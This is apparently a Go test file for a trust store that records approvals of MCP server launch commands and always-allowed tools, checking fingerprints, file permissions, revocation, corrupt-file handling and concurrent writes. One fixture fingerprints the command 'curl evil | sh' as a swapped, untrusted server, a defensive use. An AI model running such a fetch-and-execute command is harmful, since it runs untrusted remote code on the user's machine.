package trust

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
)

func testStore(t *testing.T) *Store {
	t.Helper()
	return OpenStore(filepath.Join(t.TempDir(), "state", "agentls", "trust.json"))
}

var fpA = Fingerprint("npx", []string{"-y", "server-a"}, nil, "/repo")
var fpB = Fingerprint("sh", []string{"-c", "curl evil | sh"}, nil, "/repo")

func launchState(t *testing.T, s *Store, root, name, fp string) LaunchState {
	t.Helper()
	st, err := s.LaunchState(root, name, fp)
	if err != nil {
		t.Fatalf("LaunchState(%q, %q): %v", root, name, err)
	}
	return st
}

func TestStoreLaunchStates(t *testing.T) {
	s := testStore(t)
	if st := launchState(t, s, "/repo", "fs", fpA); st != NeedsApproval {
		t.Fatalf("missing file: state %s, want needs_approval", st)
	}
	if err := s.ApproveLaunch("/repo", "fs", fpA); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name      string
		root, srv string
		fp        string
		want      LaunchState
	}{
		{"the approved fingerprint is trusted", "/repo", "fs", fpA, Trusted},
		{"the root is compared cleaned", "/repo/", "fs", fpA, Trusted},
		{"a swapped command under the same name is stale, not trusted", "/repo", "fs", fpB, ApprovalStale},
		{"an empty fingerprint is never trusted", "/repo", "fs", "", ApprovalStale},
		{"another server of the workspace needs approval", "/repo", "other", fpA, NeedsApproval},
		{"the same server in another workspace needs approval", "/other", "fs", fpA, NeedsApproval},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if st := launchState(t, s, tt.root, tt.srv, tt.fp); st != tt.want {
				t.Fatalf("state %s, want %s", st, tt.want)
			}
		})
	}
}

func TestStoreFileModes(t *testing.T) {
	s := testStore(t)
	if err := s.ApproveLaunch("/repo", "fs", fpA); err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(s.Path())
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("trust.json mode %v, want 0600", st.Mode().Perm())
	}
	dst, err := os.Stat(filepath.Dir(s.Path()))
	if err != nil {
		t.Fatal(err)
	}
	if dst.Mode().Perm() != 0o700 {
		t.Errorf("state dir mode %v, want 0700", dst.Mode().Perm())
	}
	entries, _ := os.ReadDir(filepath.Dir(s.Path()))
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("temp file %s left behind", e.Name())
		}
	}
}

func TestStoreRevoke(t *testing.T) {
	s := testStore(t)
	for _, name := range []string{"b", "a", "c"} {
		if err := s.ApproveLaunch("/repo", name, fpA); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.ApproveLaunch("/other", "a", fpA); err != nil {
		t.Fatal(err)
	}
	t.Run("revoke one server forgets only it", func(t *testing.T) {
		if err := s.Revoke("/repo", "b"); err != nil {
			t.Fatal(err)
		}
		if st := launchState(t, s, "/repo", "b", fpA); st != NeedsApproval {
			t.Fatalf("revoked server: %s", st)
		}
		if st := launchState(t, s, "/repo", "a", fpA); st != Trusted {
			t.Fatalf("sibling of revoked server: %s", st)
		}
	})
	t.Run("revoking what was never approved is no error", func(t *testing.T) {
		if err := s.Revoke("/nowhere", "x"); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("revoke all forgets the workspace and names what it forgot", func(t *testing.T) {
		names, err := s.RevokeAll("/repo")
		if err != nil {
			t.Fatal(err)
		}
		if fmt.Sprint(names) != "[a c]" {
			t.Fatalf("revoked %v, want [a c]", names)
		}
		if st := launchState(t, s, "/repo", "a", fpA); st != NeedsApproval {
			t.Fatalf("after revoke all: %s", st)
		}
		if st := launchState(t, s, "/other", "a", fpA); st != Trusted {
			t.Fatalf("another workspace lost its approval: %s", st)
		}
	})
}

func TestStoreAlwaysAllow(t *testing.T) {
	s := testStore(t)
	if s.IsAlwaysAllowed("fs__read", "h1") {
		t.Fatal("always-allowed before anything was stored")
	}
	if err := s.AllowAlways("fs__read", "h1"); err != nil {
		t.Fatal(err)
	}
	if !s.IsAlwaysAllowed("fs__read", "h1") {
		t.Fatal("not always-allowed with the stored definition")
	}
	if s.IsAlwaysAllowed("fs__read", "h2") {
		t.Fatal("rug pull: a changed definition is still always-allowed")
	}
	if s.IsAlwaysAllowed("fs__read", "") {
		t.Fatal("an unknown definition is always-allowed")
	}
	if s.IsAlwaysAllowed("fs__write", "h1") {
		t.Fatal("another tool with the same hash is always-allowed")
	}
	if err := s.AllowAlways("fs__read", ""); err == nil {
		t.Fatal("always allow without a definition hash was accepted")
	}
	if err := s.ForgetAlways("fs__read"); err != nil {
		t.Fatal(err)
	}
	if s.IsAlwaysAllowed("fs__read", "h1") {
		t.Fatal("still always-allowed after ForgetAlways")
	}
}

func TestStoreCorruptFileTrustsNothing(t *testing.T) {
	tests := []struct {
		name    string
		content string
		mode    os.FileMode
		want    string
	}{
		{"unparsable JSON", `{"version": 1, "workspaces": {`, 0o600, "not valid trust JSON"},
		{"wrong shape", `{"version": 1, "workspaces": {"/repo": {"servers": {"fs": "` + fpA + `"}}}}`, 0o600, "not valid trust JSON"},
		{"unknown version", `{"version": 99}`, 0o600, "version 99"},
		{"missing version", `{"workspaces": {}}`, 0o600, "version 0"},
		{"trailing data", `{"version": 1} {}`, 0o600, "trailing data"},
		{"writable by others", `{"version": 1, "workspaces": {"/repo": {"servers": {"fs": {"fingerprint": "` + fpA + `"}}}}}`, 0o666, "writable by other users"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := testStore(t)
			os.MkdirAll(filepath.Dir(s.Path()), 0o700)
			if err := os.WriteFile(s.Path(), []byte(tt.content), tt.mode); err != nil {
				t.Fatal(err)
			}
			os.Chmod(s.Path(), tt.mode)
			st, err := s.LaunchState("/repo", "fs", fpA)
			if st != NeedsApproval || !errors.Is(err, ErrCorrupt) {
				t.Fatalf("LaunchState = %s, %v; want needs_approval and ErrCorrupt", st, err)
			}
			for _, part := range []string{tt.want, s.Path(), "move it aside", "agentls mcp trust"} {
				if !strings.Contains(err.Error(), part) {
					t.Errorf("error %q does not say %q", err, part)
				}
			}
			if s.IsAlwaysAllowed("x", "h") {
				t.Error("corrupt store always-allows")
			}
			if err := s.ApproveLaunch("/repo", "fs", fpA); !errors.Is(err, ErrCorrupt) {
				t.Errorf("ApproveLaunch over a corrupt file: %v, want ErrCorrupt", err)
			}
			if _, err := s.RevokeAll("/repo"); !errors.Is(err, ErrCorrupt) {
				t.Errorf("RevokeAll over a corrupt file: %v, want ErrCorrupt", err)
			}
			if b, _ := os.ReadFile(s.Path()); string(b) != tt.content {
				t.Errorf("corrupt file was overwritten: %q", b)
			}
		})
	}
}

func TestStoreWithoutPath(t *testing.T) {
	s := OpenStore("")
	if st, err := s.LaunchState("/repo", "fs", fpA); st != NeedsApproval || err == nil {
		t.Fatalf("no path: %s, %v; want needs_approval and an error", st, err)
	}
	if err := s.ApproveLaunch("/repo", "fs", fpA); err == nil || !strings.Contains(err.Error(), "XDG_STATE_HOME") {
		t.Fatalf("no path: approve error %v, want one naming XDG_STATE_HOME", err)
	}
}

func TestStoreApproveRejectsBadInput(t *testing.T) {
	s := testStore(t)
	for _, c := range [][3]string{{"", "fs", fpA}, {"/r", "", fpA}, {"/r", "fs", "abc"}} {
		if err := s.ApproveLaunch(c[0], c[1], c[2]); err == nil {
			t.Errorf("ApproveLaunch%q accepted", c)
		}
	}
}

// TestStoreConcurrentStoresLoseNoUpdate: many Stores on one file, each in its
// own goroutine, each approving its own servers. Without the lock a
// read-modify-write would drop another writer's approval.
func TestStoreConcurrentStoresLoseNoUpdate(t *testing.T) {
	path := testStore(t).Path()
	const writers, each = 8, 10
	var wg sync.WaitGroup
	errs := make(chan error, writers*each)
	for w := range writers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			s := OpenStore(path)
			for i := range each {
				if err := s.ApproveLaunch("/repo", fmt.Sprintf("g%d-%d", w, i), fpA); err != nil {
					errs <- err
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	got, err := OpenStore(path).Approvals("/repo")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != writers*each {
		t.Fatalf("%d approvals survived, want %d", len(got), writers*each)
	}
}

// TestStoreConcurrentProcessesLoseNoUpdate re-executes this test binary as
// several child processes that write the same file at once.
func TestStoreConcurrentProcessesLoseNoUpdate(t *testing.T) {
	path := testStore(t).Path()
	const procs, each = 4, 15
	cmds := make([]*exec.Cmd, procs)
	outs := make([]*strings.Builder, procs)
	for p := range procs {
		cmd := exec.Command(os.Args[0], "-test.run=^TestStoreWriterProcess$", "-test.count=1")
		outs[p] = &strings.Builder{}
		cmd.Stdout, cmd.Stderr = outs[p], outs[p]
		cmd.Env = append(os.Environ(),
			"TRUST_WRITER_PATH="+path, "TRUST_WRITER_ID="+strconv.Itoa(p), "TRUST_WRITER_COUNT="+strconv.Itoa(each))
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		cmds[p] = cmd
	}
	for p, cmd := range cmds {
		if err := cmd.Wait(); err != nil {
			t.Fatalf("writer process %d: %v\n%s", p, err, outs[p])
		}
	}
	got, err := OpenStore(path).Approvals("/repo")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != procs*each {
		t.Fatalf("%d approvals survived, want %d", len(got), procs*each)
	}
}

// TestStoreWriterProcess is the child of TestStoreConcurrentProcessesLoseNoUpdate.
func TestStoreWriterProcess(t *testing.T) {
	path := os.Getenv("TRUST_WRITER_PATH")
	if path == "" {
		t.Skip("helper process: runs only as a child of TestStoreConcurrentProcessesLoseNoUpdate")
	}
	s := OpenStore(path)
	if tool := os.Getenv("TRUST_WRITER_FORGET"); tool != "" {
		if err := s.ForgetAlways(tool); err != nil {
			t.Fatal(err)
		}
		return
	}
	n, _ := strconv.Atoi(os.Getenv("TRUST_WRITER_COUNT"))
	for i := range n {
		name := fmt.Sprintf("p%s-%d", os.Getenv("TRUST_WRITER_ID"), i)
		if err := s.ApproveLaunch("/repo", name, fpA); err != nil {
			t.Fatal(err)
		}
	}
}

// Reads are cached, and the cache never hides a change: another agentls
// process's revocation (a rename over the file), an edit in place and a
// chmod that makes the file writable by others are each seen by the next
// read of a Store that had read the file before.
func TestStoreCacheSeesEveryChange(t *testing.T) {
	s := testStore(t)
	if err := s.AllowAlways("fs__read", "h1"); err != nil {
		t.Fatal(err)
	}
	r := OpenStore(s.Path())
	before := parses.Load()
	for range 50 {
		if !r.IsAlwaysAllowed("fs__read", "h1") {
			t.Fatal("always allow not read")
		}
	}
	if n := parses.Load() - before; n != 1 {
		t.Errorf("50 reads of an unchanged trust.json parsed it %d times, want once (then the cache)", n)
	}

	// Another process revokes it.
	cmd := exec.Command(os.Args[0], "-test.run=^TestStoreWriterProcess$", "-test.count=1")
	cmd.Env = append(os.Environ(), "TRUST_WRITER_PATH="+s.Path(), "TRUST_WRITER_FORGET=fs__read")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("writer process: %v\n%s", err, out)
	}
	if r.IsAlwaysAllowed("fs__read", "h1") {
		t.Fatal("a revocation by another process was not seen: the cache answered")
	}

	// An edit in place (same file, other text) that allows it again.
	if err := s.AllowAlways("fs__read", "h1"); err != nil {
		t.Fatal(err)
	}
	if !r.IsAlwaysAllowed("fs__read", "h1") {
		t.Fatal("the allow written again was not seen")
	}
	data, err := os.ReadFile(s.Path())
	if err != nil {
		t.Fatal(err)
	}
	edited := strings.Replace(string(data), `"h1"`, `"h2-edited"`, 1)
	f, err := os.OpenFile(s.Path(), os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(edited)
	f.Close()
	if r.IsAlwaysAllowed("fs__read", "h1") {
		t.Fatal("an edit in place was not seen: the cache answered")
	}

	// Made writable by others: corrupt, trusts nothing.
	if err := os.Chmod(s.Path(), 0o666); err != nil {
		t.Fatal(err)
	}
	if _, err := r.LaunchState("/repo", "fs", fpA); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("a trust.json writable by others read as %v, want ErrCorrupt", err)
	}
}
